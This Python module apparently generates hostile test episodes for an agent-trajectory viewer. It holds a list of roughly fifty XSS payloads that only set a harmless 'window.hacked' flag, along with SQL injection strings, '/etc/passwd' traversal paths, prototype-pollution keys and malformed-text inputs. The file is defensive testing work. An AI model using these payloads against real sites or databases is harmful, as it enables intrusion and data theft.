"""Episodes that attack whoever looks at them, for a viewer to show and never to run.

Every attack that could run a script calls `hacked()` or sets `window.hacked`, so that a browser can be asked whether
one did.
"""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from itertools import cycle, islice
from pathlib import Path
from typing import Any

from mcprl.records import FinishReason, Observation, StopReason, ToolCall, Trajectory, Turn
from mcprl.runs.trajectories import read_trajectories, write_trajectories

__all__ = ["ATTACKS", "TASK_ID", "add_hostile_episodes", "hostile_trajectories"]

TASK_ID = "hostile <img src=x onerror=hacked()> ../../etc/passwd"

ATTACKS: Sequence[str] = (
    "<script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><a xlink:href='javascript:window.hacked=1'><text y=20>click</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=window.hacked=1>",
    '"><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    "<iframe src='javascript:parent.hacked=1'></iframe>",
    "javascript:window.hacked=1",
    "[click](javascript:window.hacked=1)",
    "![x](x 'onerror=window.hacked=1')",
    "data:text/html,<script>window.hacked=1</script>",
    "<a href='java\tscript:window.hacked=1'>x</a>",
    "<body onload=window.hacked=1><details open ontoggle=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<object data='data:text/html,<script>window.hacked=1</script>'></object>",
    "<base href='https://example.invalid/'><script src='/x.js'></script>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hacked=1'>",
    "<link rel=stylesheet href='data:text/css,*{background:red}'>",
    "<style>@import 'https://example.invalid/x.css';</style>",
    "<form action='https://example.invalid'><button>send</button></form>",
    "<script src='/api/runs'></script>",
    "<script nonce='' src='data:,window.hacked=1'></script>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "<template><script>window.hacked=1</script></template>",
    "<x is=x onclick=window.hacked=1 style=position:fixed;inset:0>",
    "{{constructor.constructor('window.hacked=1')()}}",
    "${window.hacked=1} #{window.hacked=1} <%= window.hacked=1 %> {% window.hacked=1 %}",
    "'-window.hacked=1-' \\'-window.hacked=1//",
    "');window.hacked=1;('",
    "'; DROP TABLE full_rows; --",
    "' OR 1=1) UNION SELECT * FROM read_text('/etc/passwd') --",
    "\u202eevil\u202c \u2066\u2067\u2069 \u200b\u200d\ufeff",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://example.invalid\x07link\x1b]8;;\x07",
    "null\x00byte \x01\x02\x08\x0b\x0c\x7f\x85\u2028\u2029",
    "half a pair: \ud800 and \udfff",
    "Z" + "\u0301" * 3000,
    "\N{PILE OF POO}" * 500,
    "a" * 1_000_000,
    "<b>" * 50_000,
    "\n" * 20_000,
    "event: hello\ndata: {}\n\nevent: reset\ndata: {}\n\n",
    "HTTP/1.1 200 OK\r\nSet-Cookie: x=1\r\n\r\n<script>window.hacked=1</script>",
    "../../../../etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd%00",
    "__proto__",
    "<!--<img src=x onerror=window.hacked=1>-->",
    "]]><script>window.hacked=1</script><![CDATA[",
)


def hostile_trajectories(count: int, *, step: int) -> list[Trajectory]:
    """So many episodes; each attack stands in the text, the call and the result of at least one where count allows."""
    return [_trajectory(step, member, attack) for member, attack in enumerate(islice(cycle(ATTACKS), count))]


def add_hostile_episodes(run: Path, count: int) -> int:
    """Add them to the last step of a run; gives that step."""
    path = max((run / "trajectories").glob("step-*.parquet"))
    step = int(re.sub(r"\D", "", path.stem))
    others = [t for t in read_trajectories(path) if t.task_id != TASK_ID]
    write_trajectories(path, [*others, *hostile_trajectories(count, step=step)])
    return step


def _trajectory(step: int, member: int, attack: str) -> Trajectory:
    arguments: dict[str, Any] = {
        attack[:1000]: attack,
        "__proto__": {"hacked": attack[:1000]},
        "constructor": {"prototype": {"hacked": 1}},
        "toString": None,
        "deep": _nested(300),
    }
    turn = Turn(
        text=attack,
        sampled_ids=(1, 2),
        finish=FinishReason.STOP,
        weights_version=step,
        calls=(
            ToolCall(name=attack[:200], arguments=arguments),
            ToolCall(name="__proto__", arguments={"x": attack[:100]}, problem=attack[:300]),
        ),
        observations=(
            Observation(tool=attack[:200], server=attack[:50], text=attack),
            Observation(tool="find_person", server="directory", text=json.dumps({"__proto__": attack[:100]})),
        ),
    )
    return Trajectory(
        task_id=TASK_ID,
        step=step,
        member=member,
        attempt=0,
        temperature=1.0,
        token_ids=(0, 1, 2, 3),
        sampled=(False, True, True, False),
        forced=(False,) * 4,
        fixed=(False,) * 4,
        logprobs=(0.0, -0.1, -700.0, 0.0),
        turn_index=(-1, 0, 0, -1),
        weights_version=(-1, step, step, -1),
        turns=(turn,),
        stop=StopReason.ANSWERED,
        reward=0.5,
        reward_parts={"__proto__": 1.0, "answer": 0.0, attack[:100]: 0.5},
    )


def _nested(depth: int) -> list[Any]:
    nested: list[Any] = []
    for _ in range(depth):
        nested = [nested]
    return nested
